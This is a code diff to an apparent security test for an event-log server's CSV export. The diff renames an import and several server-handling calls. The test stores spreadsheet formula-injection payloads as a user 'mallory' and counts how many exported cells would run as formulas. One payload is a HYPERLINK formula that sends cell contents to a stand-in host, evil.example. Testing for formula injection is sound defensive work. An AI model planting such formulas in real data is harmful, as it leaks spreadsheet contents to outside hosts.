@@ -13,7 +13,7 @@ or CR). Bounded: one server on 127.0.0.1, a dozen events.
 import csv
 import io
 
-from readers_lib import Server, args, version
+from evlog_server import Server, args, version
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -39,7 +39,7 @@ def main():
     a = args(__doc__)
     print(f"evlog: {version(a.evlog)}")
     with Server(a.evlog) as s:
-        mallory = s.key("user", "mallory")
+        mallory = s.add_key("user", "mallory")
         s.append([{"event_type": "commit", "status": "success", "user_id": "mallory",
                    "action_description": p, "comments": p, "request_id": p,
                    "files_changed": [p]} for p in PAYLOADS], key=mallory)
@@ -53,8 +53,7 @@ def main():
         s.append([{"event_type": "commit", "status": "success", "user_id": "mallory",
                    "action_description": p, "comments": p, "request_id": p,
                    "files_changed": [p]} for p in PAYLOADS])
-        s.proc.terminate()
-        s.proc.wait(60)
+        s.shutdown()
         out = s.cli("query", "--user-id", "mallory", "--format", "csv")
         live, rows = live_formulas(out.stdout.decode())
         print(f"evlog query --format csv: {rows} rows, {live} cells a spreadsheet would run as formulas")
